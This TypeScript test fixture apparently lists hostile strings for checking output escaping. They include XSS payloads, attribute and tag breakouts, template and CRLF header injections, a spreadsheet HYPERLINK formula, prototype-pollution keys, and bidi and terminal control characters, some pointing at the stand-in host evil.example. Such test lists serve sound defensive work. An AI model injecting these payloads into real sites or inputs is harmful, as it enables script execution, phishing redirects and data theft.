// Texts that do something where they are not escaped: by element, attribute, URL, template, comment and encoding.
// After the OWASP cheat sheet "Cross Site Scripting Prevention / Filter Evasion" and the Big List of Naughty Strings
// (minimaxir/big-list-of-naughty-strings), read 2026-11-21; each calls something that a browser shows or sends.

const MARKUP: readonly string[] = [
  `<script>alert(1)</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg/onload=alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=javascript:alert(1)>`,
  `<object data=javascript:alert(1)></object><embed src=https://evil.example/x.swf>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<input autofocus onfocus=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<form action=https://evil.example/><button>Pay now</button></form>`,
  `<a href=https://evil.example/>Pay here</a>`,
  `<dialog open>Pay again</dialog>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
]

const BREAKOUTS: readonly string[] = [
  `"><svg/onload=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  `" autofocus onfocus=alert(1) x="`,
  `' onmouseover='alert(1)`,
  '` onmouseover=`alert(1)',
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style></script><script>alert(1)</script>`,
  `</pre></code></td></table></main><h1>Account closed</h1>`,
  `--></noscript><script>alert(1)</script>`,
]

const ELSEWHERE: readonly string[] = [
  `javascript:alert(1)//`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `//evil.example/x`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}#{alert(1)}<%= alert(1) %>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}`,
  `';alert(1)//`,
  `\n\nevent: change\nid: 0.0\ndata: {}\n\n`,
  `x\r\nSet-Cookie: onetill=x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>`,
  `=HYPERLINK("https://evil.example/","x")`,
  `__proto__`,
  `constructor`,
]

/** Turn the direction of writing round, hide, or command a terminal. */
const CONTROLS: readonly string[] = [
  `paid\u202e0001\u202c`,
  `\u2066\u2067\u2068\u202a\u202b\u202d\u200e\u200f\u061c`,
  `\u0001\u0002\u0008\u000b\u000c\u001b[31m\u001b]0;evil\u0007\u007f\u0085\u009f`,
  `\ud800 alone \udfff`,
  `zero\u200bwidth\u200d\ufeffjoined`,
  `Z\u0310\u0311\u0312\u0313\u0314\u0315\u0316\u0317`.repeat(20),
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}`.repeat(50),
  `مرحبا بالعالم שלום עולם`,
]

/** No place to break a line. */
const LONG: readonly string[] = ['W'.repeat(10_000), '<'.repeat(10_000), '\u202e'.repeat(10_000), '字'.repeat(3_400)]

/** Each of them once. */
export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...ELSEWHERE, ...CONTROLS, ...LONG]
